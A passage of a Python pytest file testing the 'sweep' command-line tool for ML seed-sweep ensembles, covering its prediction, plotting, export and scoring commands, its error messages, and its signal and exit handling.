        (lambda x: np.full(x.shape, 1e300), "holds 1e+300 in row 0; give numbers within float32's range"),
        (lambda x: np.full(x.shape, "a"), "holds dtype <U1; give real numbers"),
    ],
)
def test_predict_refuses_inputs_the_service_refuses(store, tmp_path, x, change, said):
    """A NaN row would be written as NaN predictions (the service answers 422 for it)."""
    np.save(tmp_path / "x.npy", change(x))
    where = ["--where", "depth=2", "--where", "learning_rate=0.003"]
    result = invoke("predict", store, "-i", tmp_path / "x.npy", "-o", tmp_path / "y.npy", *where, "--std")
    assert_one_line_error(result, f"--input: {str(tmp_path / 'x.npy')!r} {said}")
    assert not (tmp_path / "y.npy").exists()


def test_predict_std_writes_mean_and_std(store, tmp_path, x):
    np.save(tmp_path / "x.npy", x)
    result = invoke(
        "predict",
        store,
        "-i",
        tmp_path / "x.npy",
        "-o",
        tmp_path / "out" / "m.npy",
        "--where",
        "depth=1",
        "--std",
        "--pool",
    )
    assert result.exit_code == 0, result.stderr
    mean, std = sweep.load(store).where(depth=1).mean_std(x)  # both learning rates, pooled
    np.testing.assert_allclose(np.load(tmp_path / "out" / "m.npy"), mean, rtol=1e-6)
    np.testing.assert_allclose(np.load(tmp_path / "out" / "m_std.npy"), std, rtol=1e-6)
    assert float(std.mean()) > 0


def test_predict_refuses_to_pool_a_free_grid_column_unless_asked(store, tmp_path, x):
    np.save(tmp_path / "x.npy", x)
    args = ["predict", store, "-i", tmp_path / "x.npy", "-o", tmp_path / "y.npy", "--where", "depth=2"]
    assert_one_line_error(
        invoke(*args),
        "--where depth=2 selects members trained with different settings",
        "learning_rate takes [0.001, 0.003]",
        "--where learning_rate=VALUE",
        "--pool",
    )
    assert not (tmp_path / "y.npy").exists()
    for k in (1, 4):  # the selection after --best is checked: one member has one setting
        spread = len(set(sweep.load(store).where(depth=2).best(k).index["learning_rate"].to_pylist()))
        assert invoke(*args, "--best", str(k)).exit_code == (0 if spread == 1 else 1), k
    result = invoke(*args, "--pool")
    assert result.exit_code == 0, result.stderr
    np.testing.assert_array_equal(np.load(tmp_path / "y.npy"), sweep.load(store).where(depth=2).predict(x))
    result = invoke(*args, "--where", "learning_rate=0.001", "--where", "learning_rate=0.003")
    assert result.exit_code == 0, result.stderr  # both values named: nothing left free


def test_predict_rollout_writes_every_members_rollout_or_its_mean_and_std(store, tmp_path, x):
    np.save(tmp_path / "x0.npy", x)
    result = invoke(
        "predict",
        store,
        "-i",
        tmp_path / "x0.npy",
        "-o",
        tmp_path / "r.npy",
        "--where",
        "depth=2",
        "--best",
        "3",
        "--rollout",
        "4",
        "--pool",
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == f"wrote {tmp_path / 'r.npy'}: 3 members, rollout of 4 steps, shape (3, 5, 3, 1, 16)"
    np.testing.assert_array_equal(np.load(tmp_path / "r.npy"), sweep.load(store).where(depth=2).best(3).rollout(x, 4))
    result = invoke(
        "predict",
        store,
        "-i",
        tmp_path / "x0.npy",
        "-o",
        tmp_path / "m.npy",
        "--where",
        "depth=1",
        "--rollout",
        "4",
        "--std",
        "--pool",
    )
    assert result.exit_code == 0, result.stderr
    mean, std = sweep.load(store).where(depth=1).rollout_mean_std(x, 4)
    np.testing.assert_array_equal(np.load(tmp_path / "m.npy"), mean)
    np.testing.assert_array_equal(np.load(tmp_path / "m_std.npy"), std)
    assert mean.shape == (5, 3, 1, 16) and "std over 8 members, rollout of 4 steps" in result.stdout


# -- plot ---------------------------------------------------------------------------------------
def _png(path: Path) -> np.ndarray:
    import matplotlib.image

    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    return matplotlib.image.imread(path)


def test_plot_writes_one_png_with_every_panel(store, tmp_path):
    out = tmp_path / "figs" / "sweep.png"
    result = invoke("plot", store, "--out", out, "--dpi", "100")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == f"wrote {out}"
    image = _png(out)
    assert image.shape[0] > 500 and image.shape[1] > 1000


def test_plot_honours_the_suffix_and_names_several_figures(store, tmp_path):
    # a small figure: every kind is saved by the same function (the overview, the largest, is drawn
    # as a PNG above and in test_plot_overview_has_the_documented_panels)
    result = invoke("plot", store, "--kind", "spread", "--out", tmp_path / "x.pdf")
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "x.pdf").read_bytes()[:5] == b"%PDF-"
    result = invoke("plot", store, "--kind", "all", "--out", tmp_path / "figs" / "heat.svg", "--samples", "2")
    assert result.exit_code == 0, result.stderr
    kinds = ["curves", "spread", "predictions", "calibration", "spread_skill", "ensemble_size"]
    names = [f"heat-{k}.svg" for k in kinds]
    assert result.stdout.split() == [w for n in names for w in ("wrote", str(tmp_path / "figs" / n))]
    assert all(b"<svg" in (tmp_path / "figs" / n).read_bytes()[:400] for n in names)
    small, large = tmp_path / "s.png", tmp_path / "l.png"
    invoke("plot", store, "--kind", "spread", "--out", small, "--dpi", "50")
    invoke("plot", store, "--kind", "spread", "--out", large, "--dpi", "100")
    assert _png(large).shape[0] == 2 * _png(small).shape[0]
    assert_one_line_error(invoke("plot", store, "--out", tmp_path / "p_"), "--out", ".png, .pdf, .svg")


def test_plot_never_writes_into_a_store_or_an_export(store, tmp_path, monkeypatch):
    """A figure inside a store would be a file its manifest does not list (`sweep verify` would
    say the store was altered): given the store itself, plot writes beside it; an --out inside is
    refused before anything is drawn."""
    copy = tmp_path / "cli"
    shutil.copytree(store, copy, symlinks=True)
    result = invoke("plot", copy / "ensembles", "--kind", "spread", "--dpi", "50")
    assert result.exit_code == 0 and result.stdout.strip() == f"wrote {copy / 'sweep.png'}", result.stderr
    assert invoke("verify", copy).exit_code == 0
    inside = copy / "ensembles" / "figs" / "x.png"
    said = invoke("plot", copy, "--out", inside)
    assert_one_line_error(said, "--out", "inside", "a seed-sweep store or export", "write it elsewhere")
    with pytest.raises(sweep.QueryError, match="a seed-sweep store or export"):
        sweep.plot(copy, "spread", out=inside)
    assert not inside.parent.exists() and invoke("verify", copy).exit_code == 0
    generation = (copy / "ensembles").resolve()  # given a generation itself, or from inside it: the sweep directory
    for given in (generation, "."):
        monkeypatch.chdir(generation if given == "." else tmp_path)
        said = invoke("plot", given, "--kind", "spread", "--dpi", "50")
        assert said.exit_code == 0 and said.stdout.strip() == f"wrote {copy.resolve() / 'sweep.png'}", said.stderr
    monkeypatch.chdir(tmp_path)
    own = tmp_path / "mine"  # a folder of the user's with a manifest.json of its own is no store
    own.mkdir()
    (own / "manifest.json").write_text(json.dumps({"format": 1, "files": {"a.csv": "x"}}))
    assert invoke("plot", copy, "--kind", "spread", "--dpi", "50", "--out", own / "x.png").exit_code == 0
    (own / "manifest.json").unlink()
    os.mkfifo(own / "manifest.json")  # read, it would block
    assert invoke("plot", copy, "--kind", "spread", "--dpi", "50", "--out", own / "y.png").exit_code == 0
    (copy / "ensembles" / "notes.txt").write_text("mine")
    assert "is not listed in the manifest; the store was altered (a file added: move it out)" in (
        invoke("verify", copy).stderr
    )


def test_plot_overview_has_the_documented_panels(store):
    from matplotlib.colors import to_hex

    fig = sweep.plot(store, num_samples=2)
    train, val, test, spread, *predictions, residual = fig.axes[:-4]  # then the row of the ensemble scores
    assert fig.get_suptitle().startswith("sweep 'cli', problem heat1d: 16 members in 4 configurations")
    scores = [ax.get_title().split(",")[0].split(" (")[0] for ax in fig.axes[-4:]]
    assert scores == ["coverage", "rank histogram", "spread vs error", "CRPS vs ensemble size"]
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    FigureCanvasAgg(fig).draw()
    spread_error = fig.axes[-2]  # numbers like 0.002 in a small panel: few enough not to run together
    low, high = spread_error.get_xlim()
    assert len([x for x in spread_error.get_xticks() if low <= x <= high]) <= 5
    summary = sweep.load(store).summary().to_pylist()  # best validation mean first
    best_first = [f"depth={r['depth']} learning_rate={r['learning_rate']:g}" for r in summary]
    assert [r["mean"] for r in summary] == sorted(r["mean"] for r in summary)
    for ax, which in ((train, "train"), (val, "val"), (test, "test")):
        assert ax.get_xlabel() == "epoch" and ax.get_ylabel() == f"{which} loss (mse)" and ax.get_yscale() == "log"
        # every member plus one median per configuration; test: the configuration chosen on validation only
        assert len(ax.lines) == (16 + 4 if which != "test" else 4 + 1)
        ticks = [t for t in ax.get_xticks() if ax.get_xlim()[0] <= t <= ax.get_xlim()[1]]
        assert ticks and all(float(t) % 2 == 0 for t in ticks), ticks  # on report epochs (report_every=2)
    assert train.get_ylim() == test.get_ylim()  # compared panels share the y axis
    labels = [t.get_text() for t in train.get_yticklabels(which="both") if t.get_text()]
    assert labels and all(float(text) > 0 for text in labels), labels  # plain numbers, not 3×10⁻¹
    legend = [t.get_text().split(" (")[0] for t in train.get_legend().get_texts()]
    assert legend == best_first  # configurations best first, as in `sweep show`
    medians = [line for line in train.lines if line.get_linewidth() == 2]
    assert [to_hex(m.get_color()) for m in medians] == [c.lower() for c in OKABE_ITO[:4]]
    assert spread.get_ylabel() == "final val loss" and len(spread.get_xticklabels()) == 4
    assert sum(len(c.get_offsets()) for c in spread.collections) == 16  # every member as a point
    box_medians = [line for line in spread.lines if to_hex(line.get_color()) == "#000000"]
    assert len(box_medians) == 4  # medians in black, never in a configuration's colour
    assert len(predictions) == 2
    for ax in predictions:
        assert ax.get_xlabel() == "x"  # the physical coordinate of heat1d
        assert ax.get_ylim() == predictions[0].get_ylim()
        assert f"best: {best_first[0]}" in ax.get_title()
    spec = sweep.load(store).where(depth=summary[0]["depth"]).spec
    grid = np.asarray(predictions[0].lines[0].get_xdata())
    extent = spec.problem.options.get("domain_extent", 3.0)
    assert 0 < grid[0] < grid[-1] < extent and len(grid) == 16
    assert [t.get_text() for t in predictions[0].get_legend().get_texts()] == [
        "input",
        "ground truth",
        "ensemble mean",
        "±1 std over members",
    ]
    # beside them: each sample's ensemble mean minus its ground truth
    assert residual.get_ylabel() == "ensemble mean − ground truth" and residual.get_xlabel() == "x"
    for ax, line in zip(predictions, residual.lines, strict=False):
        truth, mean = (
            next(x for x in ax.lines if x.get_label() == n).get_ydata() for n in ("ground truth", "ensemble mean")
        )
        np.testing.assert_allclose(line.get_ydata(), mean - truth, rtol=1e-6, atol=1e-7)
    assert [t.get_text() for t in residual.get_legend().get_texts()] == ["test sample 0", "test sample 1"]


def test_plot_kinds_return_figures(store):
    from matplotlib.figure import Figure

    figs = sweep.plot(sweep.load(store), ["curves", "spread"])
    assert list(figs) == ["curves", "spread"] and all(isinstance(f, Figure) for f in figs.values())
    assert isinstance(sweep.plot(store, "predictions", num_samples=1), Figure)
    many = sweep.plot(store, "predictions", num_samples=16)  # rows of at most four panels, not one long row
    rows = {round(ax.get_position().y0, 3) for ax in many.axes}
    cols = {round(ax.get_position().x0, 3) for ax in many.axes}
    assert len(many.axes) > 5 and len(cols) == 4 and len(rows) == -(-len(many.axes) // 4)
    residual = many.axes[-1]
    assert (
        residual.get_title().startswith(f"residuals of {len(many.axes) - 1} samples") and residual.get_legend() is None
    )
    with pytest.warns(UserWarning, match=r"^predictions of \d+ test samples, not 99: as many as the store holds$"):
        assert len(sweep.plot(store, "predictions", num_samples=99).axes) == len(many.axes)
    with pytest.raises(sweep.QueryError, match=r"`kind`: got 'x.png'.*out="):
        sweep.plot(store, "x.png")
    with pytest.raises(sweep.QueryError, match=r"`kind`: got 'curvs' \(did you mean 'curves'\?\); choose one of"):
        sweep.plot(store, "curvs")
    with pytest.raises(sweep.QueryError, match=r"`kind`: got 'search'.*sweep.search.plot_trace\(sweep_dir\)"):
        sweep.plot(store, "search")  # the CLI's kind, drawn from the sweep directory's search record
    with pytest.raises(sweep.QueryError, match=r"^plot\(metric='val_los'\): no column named 'val_los' \(did you mean"):
        sweep.plot(store, "curves", metric="val_los")  # named as the argument given, not summary()'s
    for name in ("num_samples", "max_curves"):
        with pytest.raises(sweep.QueryError, match=rf"^plot\({name}=0\): give an integer >= 1$"):
            sweep.plot(store, **{name: 0})


def test_plot_draws_a_sample_of_curves_but_spreads_every_member(store):
    figures = sweep.plot(sweep.load(store), "all", max_curves=2)
    train = figures["curves"].axes[0]
    assert len(train.lines) == 8 + 4  # 2 of 4 members per configuration, plus the medians
    assert all("(2 of 4 shown)" in t.get_text() for t in train.get_legend().get_texts())
    spread = figures["spread"].axes[0]
    assert sum(len(c.get_offsets()) for c in spread.collections) == 16


# -- errors -------------------------------------------------------------------------------------
@pytest.fixture
def files(tmp_path, x):
    np.save(tmp_path / "x.npy", x)
    np.save(tmp_path / "wrong.npy", x[:, :, :8])
    np.save(tmp_path / "objects.npy", np.array([{"a": 1}], dtype=object), allow_pickle=True)
    (tmp_path / "text.npy").write_text("not an array")
    np.savez(tmp_path / "arrays.npz", x=x)
    (tmp_path / "bad.toml").write_text("name = [unclosed")
    (tmp_path / "unknown_arch.toml").write_text(grid_spec().to_toml().replace('name = "ConvNet"', 'name = "NoSuchNet"'))
    (tmp_path / "good.toml").write_text(grid_spec().to_toml())
    (tmp_path / "dotdot.toml").write_text(grid_spec().to_toml().replace('name = "cli"', 'name = ".."'))
    unet = grid_spec().to_dict() | {
        "grid": {},
        "vmap": [],
        "model": {"name": "ClassicUNet", "hidden_channels": 2, "num_levels": 5},
    }
    sweep.SweepSpec.from_dict(unet).to_toml(tmp_path / "unet.toml")
    (tmp_path / "empty").mkdir()
    return tmp_path


ERRORS = [
    (["plan", "{d}/missing.toml"], ["missing.toml", "does not exist"]),
    (["plan", "{d}/bad.toml"], ["not valid TOML"]),
    (["plan", "{d}/unknown_arch.toml"], ["model.name", "NoSuchNet"]),
    (["plan", "{d}/empty"], ["is a directory"]),
    (["run", "{d}/unknown_arch.toml", "--storage", "{d}/runs"], ["NoSuchNet"]),
    (["plan", "{d}/dotdot.toml"], ["`name`", "'..'"]),
    (["plan", "{d}/unet.toml"], ["`model.num_levels`", "got 5", "divisible by 2**5"]),
    (["verify", "{d}/empty"], ["not a seed-sweep store"]),
    (["status", "{d}/empty"], ["plan.json", "not a sweep directory"]),
    (["show", "{d}/empty"], ["not a seed-sweep store"]),
    (["aggregate", "{d}/empty"], ["no block checkpoints"]),
    (["show", "{s}", "--where", "width=3"], ["unknown column 'width'"]),
    (["show", "{s}", "--metric", "nope"], ["--metric nope: no column named 'nope'", "choose one of"]),
    (["show", "{s}", "--metric", "val_los"], ["no column named 'val_los' (did you mean 'val_loss'?)"]),
    (["show", "{s}", "--metric", "status"], ["--metric status: not a numeric column"]),
    (["show", "{s}", "--metric", "seed"], ["--metric seed: a setting of the members", "choose one of train_loss"]),
    (["show", "{s}", "--metric", "depth"], ["--metric depth: a setting of the members"]),
    (["show", "{d}/bad.toml"], ["SWEEP_DIR: '" + "{d}/bad.toml" + "' is a file; give a sweep directory"]),
    (["plot", "{s}", "--out", "s3://bucket/x.png"], ["--out: got 's3://bucket/x.png'; figures are written to local"]),
    (["show", "{d}/nowhere"], ["'" + "{d}/nowhere" + "' does not exist"]),
    (["status", "{d}/nowhere"], ["does not exist"]),
    (["scores", "{d}/nowhere"], ["SWEEP_DIR: '" + "{d}/nowhere" + "' does not exist"]),
    (["verify", "{d}/nowhere"], ["DIR: '" + "{d}/nowhere" + "' does not exist; give a sweep directory or an export"]),
    (["export", "{d}/nowhere", "-o", "{d}/exported"], ["SWEEP_DIR: '" + "{d}/nowhere" + "' does not exist"]),
    (["plan", "{d}/good.toml", "--set", "trainig.epochs=5"], ["--set trainig.epochs", "not a spec field"]),
    (["plan", "{d}/good.toml", "--set", "training.epochs"], ["--set", "field=value"]),
    (
        ["plan", "{d}/good.toml", "--set", "model.depth=3"],
        ["--set model.depth: the grid sets model.depth ([1, 2])", "--set 'grid.model.depth=[3]'"],
    ),
    (["predict", "{s}", "-i", "{d}/x.npy", "-o", "{d}/y.npy", "--where", "depth"], ["--where", "key=value"]),
    (
        ["predict", "{s}", "-i", "{d}/x.npy", "-o", "{d}/y.npy", "--where", "depth=7"],
        ["--where depth=7: no member matches"],
    ),
    (
        ["predict", "{s}", "-i", "{d}/x.npy", "-o", "{d}/y.npy"],
        [
            "the whole store (no --where) selects",
            "depth takes [1, 2]",
            "learning_rate takes [0.001, 0.003]",
            # --pool is offered for the learning rates it can pool, not for the depths
            "Fix depth with --where (e.g. --where depth=VALUE): members of different structural configs are not "
            "pooled; fix learning_rate too, or pass --pool to pool over it",
        ],
    ),
    (
        ["export", "{s}", "-o", "{d}/exported"],
        ["members of different structural configs are not pooled", "; or blend configurations with --greedy K"],
    ),
    *(  # every command that makes one ensemble of a selection, as predict
        (args, ["--where depth=1 selects members trained with different settings", "learning_rate takes", "--pool"])
        for args in (
            ["export", "{s}", "-o", "{d}/exported", "--where", "depth=1"],
            ["scores", "{s}", "--where", "depth=1", "--recalibrate"],
            ["serve", "{s}", "--where", "depth=1"],  # before Ray starts
        )
    ),
    (
        ["predict", "{s}", "-i", "{d}/x.npy", "-o", "{d}/y.npy", "--pool"],
        ["spans 2 structural configs", "select one first, e.g. --where depth=1 (they differ in depth)"],
    ),
    (
        ["predict", "{s}", "-i", "{d}/wrong.npy", "-o", "{d}/y.npy", "--where", "depth=1", "--pool"],
        ["shape (3, 1, 8)"],
    ),
    (["scores", "{s}", "--save-calibration", "{d}/c.json"], ["--save-calibration goes with --recalibrate"]),
    (["scores", "{s}", "--best", "2"], ["--best goes with --recalibrate or --greedy"]),
    (["predict", "{s}", "-i", "{d}/nothing.npy", "-o", "{d}/y.npy"], ["--input", "does not exist"]),
    (["predict", "{s}", "-i", "{d}/text.npy", "-o", "{d}/y.npy"], ["--input", "is not a .npy file; give an array"]),
    (["predict", "{s}", "-i", "{d}/objects.npy", "-o", "{d}/y.npy"], ["--input", "holds Python objects", "never"]),
    (["predict", "{s}", "-i", "{d}/arrays.npz", "-o", "{d}/y.npy"], ["--input", ".npz archive"]),
    (["predict", "{s}", "-i", "{d}/x.npy", "-o", "{d}/y.txt", "--where", "depth=1"], ["--output", ".npy"]),
    (
        ["predict", "{s}", "-i", "{d}/x.npy", "-o", "{d}/y.npy", "--where", "depth=1", "--rollout", "0"],
        ["--rollout: got 0", "integer >= 1"],
    ),
    (
        ["predict", "{s}", "-i", "{d}/wrong.npy", "-o", "{d}/y.npy", "--where", "depth=1", "--rollout", "3", "--pool"],
        ["rollout: x0 has shape (3, 1, 8)", "(batch >= 1, 1, 16)"],
    ),
]


@pytest.mark.filterwarnings("ignore:.*plan.json.* not found")
@pytest.mark.parametrize("args, fragments", ERRORS, ids=[" ".join(a[:1] + a[2:3] + a[-2:]) for a, _ in ERRORS])
def test_errors_print_one_line_and_exit_1(store, files, args, fragments):
    result = invoke(*[a.format(d=files, s=store) for a in args])
    assert_one_line_error(result, *[f.format(d=files) for f in fragments])
    assert ".where(" not in result.stderr and "(k=" not in result.stderr  # phrased for the command line
    assert not (files / "y.npy").exists() and not (files / "runs").exists()


def test_debug_shows_the_exception(files):
    result = invoke("--debug", "status", files / "empty")
    assert result.exit_code == 1
    assert isinstance(result.exception, sweep.StoreError)
    assert_one_line_error(invoke("status", files / "empty"), "plan.json")  # only for that call


def test_a_broken_pipe_of_the_command_s_own_is_an_error(store, monkeypatch):
    def load(*args, **kwargs):
        raise BrokenPipeError(32, "Broken pipe")  # a socket or a worker's pipe, not standard output

    monkeypatch.setattr(sweep.ensemble, "load", load)
    assert_one_line_error(invoke("show", store), "BrokenPipeError: [Errno 32] Broken pipe")


def test_console_script_error_has_no_traceback_and_a_reader_that_left_is_no_error(tmp_path, store):
    exe = shutil.which("sweep")
    assert exe, "the console script `sweep` is not installed (pip install -e .)"
    env = {**os.environ, "SWEEP_DEBUG": ""}
    out = subprocess.run([exe, "show", str(tmp_path / "nowhere")], capture_output=True, text=True, env=env, timeout=120)
    assert out.returncode == 1
    assert out.stderr.startswith("error: ") and len(out.stderr.strip().splitlines()) == 1, out.stderr
    # `python -m sweep show STORE | head -1`, head gone before the table is written: a pipe whose reader
    # is closed (a broken pipe at the first write), not an error
    read, write = os.pipe()
    os.close(read)
    try:
        out = subprocess.run(
            [sys.executable, "-m", "sweep", "show", str(store)],
            stdout=write,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    finally:
        os.close(write)
    assert out.returncode == 1 and out.stderr == "", out.stderr


def test_with_a_validation_split_test_curves_show_the_chosen_configuration_only(store):
    keys = best_first(sweep.load(store))
    train, val_ax, test = sweep.plot(store, "curves").axes
    assert [ax.get_ylabel() for ax in (train, val_ax, test)] == [
        "train loss (mse)",
        "val loss (mse)",
        "test loss (mse)",
    ]
    assert len(train.lines) == len(val_ax.lines) == 16 + 4
    assert len(test.lines) == 4 + 1 and "best configuration" in test.get_title()
    assert test.get_legend_handles_labels()[1][0].split(" (")[0] == config_label(keys[0])
    assert train.get_ylim() == test.get_ylim()


def test_ranking_by_a_test_column_beside_a_validation_column_is_warned(store, tmp_path):
    warning = r"--metric test_loss ranks by the test set although these members have val_loss: .*optimistic"
    with pytest.warns(UserWarning, match=warning):
        shown = invoke("show", store, "--metric", "test_loss")
    assert shown.exit_code == 0 and "test_loss over seeds per configuration" in shown.stdout, shown.output
    np.save(tmp_path / "x.npy", np.zeros((2, 1, 16), np.float32))
    with pytest.warns(UserWarning, match=warning):
        chosen = invoke("predict", store, "-i", tmp_path / "x.npy", "-o", tmp_path / "p.npy", "--best", "2",
                        "--where", "depth=1", "--where", "learning_rate=0.003", "--metric", "test_loss")  # fmt: skip
    assert chosen.exit_code == 0, chosen.output
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # ranked by the validation column: no warning
        assert invoke("show", store).exit_code == 0


def test_curves_of_one_report_per_member_are_dots_side_by_side_saying_how_to_draw_curves(tmp_path):
    """``report_every`` past the last epoch: one report per member, which a line would not draw."""
    training = sweep.Training(epochs=2, batch_size=16, report_every=10)
    plan = make_plan(tiny_spec(seeds=2, seeds_per_trial=2, grid={"model.depth": [1, 2]}, training=training))
    root = write_sweep(tmp_path / "one", plan, [train_trial(t) for t in plan.trials])
    sweep.aggregate(root, progress=False)
    train = sweep.plot(root, "curves").axes[0]
    members = [line for line in train.lines if line.get_markersize() == 3]
    medians = [line for line in train.lines if not line.get_label().startswith("_")]
    assert len(members) == 4 and all(line.get_marker() == "o" for line in members + medians)
    beside = sorted(float(line.get_xdata()[0]) for line in medians)  # one dot per configuration, side by side
    assert len(beside) == 2 and beside[0] < 2 < beside[1] and beside[1] - beside[0] < 0.5
    assert list(train.get_xticks()) == [2] and train.get_xlim() == (1.5, 2.5)
    assert "training.report_every" in train.get_xlabel()


def test_without_a_validation_split_every_configuration_has_test_curves_and_choosing_needs_a_metric(tmp_path):
    from _blocks import trained_blocks

    from sweep.planning import make_plan
    from sweep.store import aggregate_blocks

    spec = tiny_spec(
        problem=sweep.Problem("heat1d", num_points=16, num_samples=60, val_fraction=0),
        grid={"optimizer.learning_rate": [3e-3, 1e-3]},
    )
    plan = make_plan(spec)
    aggregate_blocks(tmp_path / "s", trained_blocks(plan), plan=plan)
    with pytest.raises(sweep.QueryError, match=r"plot\(metric='val_loss'\): 8 of 8 members .* no val_loss"):
        sweep.plot(tmp_path / "s")
    with pytest.warns(UserWarning, match="predictions left out"):  # aggregate_blocks keeps no samples
        train, test, spread, *_ = sweep.plot(tmp_path / "s", metric="test_loss", num_samples=1).axes
    assert len(test.lines) == 8 + 2 and spread.get_ylabel() == "final test loss"
    assert_one_line_error(invoke("show", tmp_path / "s"), "--metric val_loss", "without a validation set")


@pytest.mark.parametrize(
    "choice, mode", [("live", "live"), ("plain", "plain"), ("off", "off"), ("none", "off"), (None, "auto")]
)
def test_run_progress_option_reaches_sweep_run(tmp_path, monkeypatch, choice, mode):
    import sweep.tune

    seen = {}

    def fake_run(spec, storage, options):
        seen["options"] = options
        return str(tmp_path / "runs" / spec.name)

    monkeypatch.setattr(sweep.tune, "run", fake_run)
    grid_spec().to_toml(tmp_path / "spec.toml")
    result = invoke("run", tmp_path / "spec.toml", *(["--progress", choice] if choice else []))
    assert result.exit_code == 0, result.stderr
    options = seen["options"]
    assert isinstance(options, sweep.RunOptions) and options.progress == mode and options.executor == "tune"
    assert ("--progress" in options.resume_command) == (choice is not None)
    # absolute paths: the command resumes from any folder (and `sweep status` prints it)
    assert options.resume_command.startswith(f"sweep run {tmp_path / 'spec.toml'} --storage {os.path.abspath('runs')} ")
    assert invoke("run", tmp_path / "spec.toml", "--executor", "local").exit_code == 0
    assert seen["options"].executor == "local" and "--executor local" in seen["options"].resume_command
    assert (
        invoke("run", tmp_path / "spec.toml", "--logger", "tensorboard", "--log-per", "config", "--verbose").exit_code
        == 0
    )
    assert seen["options"].resume_command.endswith(" --logger tensorboard --log-per config --verbose --resume")
    assert invoke("run", tmp_path / "spec.toml", "--progress", "loud").exit_code == 2  # click lists the choices


def test_run_checkpoint_every_is_a_count_or_auto_checked_before_anything_runs(tmp_path, monkeypatch):
    import sweep.tune

    seen = []
    monkeypatch.setattr(sweep.tune, "run", lambda spec, storage, options: seen.append(options) or str(tmp_path))
    grid_spec().to_toml(tmp_path / "spec.toml")
    assert invoke("run", tmp_path / "spec.toml", "--checkpoint-every", "3").exit_code == 0
    assert seen[-1].checkpoint_every == 3 and " --checkpoint-every 3 " in seen[-1].resume_command
    assert invoke("run", tmp_path / "spec.toml").exit_code == 0
    assert seen[-1].checkpoint_every == "auto" and "--checkpoint-every" not in seen[-1].resume_command
    for bad in ("often", "0", "-2", "1.5"):
        result = invoke("run", tmp_path / "spec.toml", f"--checkpoint-every={bad}")
        assert result.exit_code == 2, (bad, result.output)  # a usage error, as typer's own
        assert f"'--checkpoint-every': got '{bad}'; give an integer >= 1" in " ".join(result.stderr.split())
    assert len(seen) == 2  # nothing ran for a bad value


def test_plan_imports_a_model_module_next_to_the_spec_and_hints_when_it_cannot(tmp_path):
    import os
    import sys

    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "nu_next_to_spec.py").write_text((Path(__file__).parents[1] / "examples" / "my_models.py").read_text())
    spec = tiny_spec(name="own", model=sweep.Model("nu_next_to_spec:shift_net", hidden=4))
    spec.to_toml(folder / "spec.toml")
    env_before = os.environ.get("PYTHONPATH")
    result = invoke("plan", folder / "spec.toml")
    assert result.exit_code == 0, result.stderr
    assert "1 trial," in result.output or "2 trials" in result.output, result.output
    assert str(folder) not in sys.path and os.environ.get("PYTHONPATH") == env_before  # only for the command
    sys.modules.pop("nu_next_to_spec", None)

    tiny_spec(name="lost", model=sweep.Model("nu_nowhere_module:net")).to_toml(folder / "lost.toml")
    assert_one_line_error(
        invoke("plan", folder / "lost.toml"),
        "cannot import module 'nu_nowhere_module'",
        f"searched the spec's folder {str(folder)!r} and PYTHONPATH",
        "PYTHONPATH=<its folder>",
    )


@pytest.mark.parametrize("args, status", [(["--help"], 0), (["show", "nowhere"], 1)])
def test_the_command_leaves_without_finalising_the_interpreter_when_ray_is_not_running(
    monkeypatch, tmp_path, args, status
):
    """``sweep.cli.main``: flushed output, then ``os._exit`` (pyarrow's threads cannot abort the exit,
    apache/arrow#34314); with Ray running, the normal exit that stops it."""
    left = []
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", ["sweep", *args])
    monkeypatch.setattr(os, "_exit", lambda s: left.append(s))
    monkeypatch.setitem(sys.modules, "ray", types.SimpleNamespace(is_initialized=lambda: False))
    main()
    assert left == [status]
    monkeypatch.setitem(sys.modules, "ray", types.SimpleNamespace(is_initialized=lambda: True))
    with pytest.raises(SystemExit) as exit_info:
        main()
    assert exit_info.value.code == status and left == [status]


@pytest.mark.parametrize("by", ["SIGINT", "SIGTERM"])
def test_after_a_ctrl_c_a_second_one_leaves_rays_exit_handler_alone(monkeypatch, tmp_path, by):
    """A command that started Ray and was interrupted ends through Ray's exit handler, which stops
    its processes; a second Ctrl-C (or SIGTERM, after one) then would cut it short (a traceback,
    processes left running)."""
    import signal

    import sweep.ensemble

    def interrupted(*args, **kwargs):
        raise sweep.tune.Interrupted("", getattr(signal, by))

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", ["sweep", "show", str(tmp_path)])
    monkeypatch.setattr(sweep.ensemble, "load", interrupted)
    monkeypatch.setitem(sys.modules, "ray", types.SimpleNamespace(is_initialized=lambda: True))
    before = signal.getsignal(signal.SIGINT), signal.getsignal(signal.SIGTERM)
    try:
        with pytest.raises(SystemExit) as exit_info:
            main()
        assert exit_info.value.code == 128 + getattr(signal, by)  # 130, 143
        assert signal.getsignal(signal.SIGINT) is signal.SIG_IGN
        assert (signal.getsignal(signal.SIGTERM) is signal.SIG_IGN) == (by == "SIGTERM")
    finally:
        signal.signal(signal.SIGINT, before[0])
        signal.signal(signal.SIGTERM, before[1])


def test_scores_of_a_kind_the_store_lacks_name_the_kinds_it_holds(store):
    """A heat1d store without trajectories holds no rollout scores: an error (as `sweep plot --kind
    rollout` says) naming the kinds it holds, not a header over no rows."""
    assert_one_line_error(
        invoke("scores", store, "--kind", "rollout"),
        "no stored ensemble scores (rollout, val and test) of these 16 members; there are ensemble_size, one_step "
        "scores: --kind ensemble_size (or --kind all)",
    )
